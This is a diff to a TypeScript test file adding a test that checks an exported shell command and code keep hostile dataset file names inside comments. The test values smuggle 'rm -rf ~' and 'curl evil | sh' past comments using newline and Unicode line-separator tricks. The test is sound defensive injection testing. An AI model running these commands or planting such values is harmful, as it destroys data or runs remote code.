@@ -5,6 +5,7 @@
  */
 import { mkdtempSync, rmSync } from "node:fs";
 import { join } from "node:path";
+import ts from "typescript";
 import { afterAll, describe, expect, it } from "vitest";
 import { modelToJSON } from "../../src/index.js";
 import { commandFor, typescriptFor } from "../../web/src/export-code.js";
@@ -31,5 +32,28 @@ describe("the page's spec exported as code", () => {
     expect(printed[0]).toBe(`train cost ${page.history.last("loss")} after 15 epochs`);
     expect(model.weights).toEqual(modelToJSON(page.model).weights);
     expect(commandFor(spec).split("\n")).toContain("nnlab train spec.json");
+  });
+
+  it("keeps a file name a link or a dropped file supplied inside the exported comments, never a line of code", () => {
+    // A shared link may set data.source to any name ending in .csv; so may a dropped file's name.
+    const hostile = ["a\nrm -rf ~ #.csv", "b\r\ncurl evil | sh #.csv", "c\u2028process.exit(7) //.csv", "d\u2029process.exit(8) //.csv"];
+    for (const source of hostile) {
+      const spec = pageSpec({ dataset: "circles", size: 200, hidden: [4], batchSize: 16, epochs: 1, seed: 4 });
+      spec.data = { source, onInvalidRow: "error" };
+      // Lines as a shell reads them (newlines) and as JavaScript reads them (also CR, U+2028, U+2029).
+      const shell = commandFor(spec).split("\n");
+      expect(shell.filter((l) => l.trim() !== "" && !l.startsWith("#"))).toEqual(["nnlab train spec.json"]);
+      // As TypeScript: it still parses, and names no `process` (a U+2028 or U+2029 ends a // comment in JavaScript).
+      const code = typescriptFor(spec);
+      expect(ts.transpileModule(code, { reportDiagnostics: true }).diagnostics ?? []).toEqual([]);
+      const identifiers: string[] = [];
+      const visit = (node: ts.Node): void => {
+        if (ts.isIdentifier(node)) identifiers.push(node.text);
+        ts.forEachChild(node, visit);
+      };
+      visit(ts.createSourceFile("train.ts", code, ts.ScriptTarget.ES2022));
+      expect(identifiers).not.toContain("process");
+      expect(identifiers).toContain("runExperiment");
+    }
   });
 });
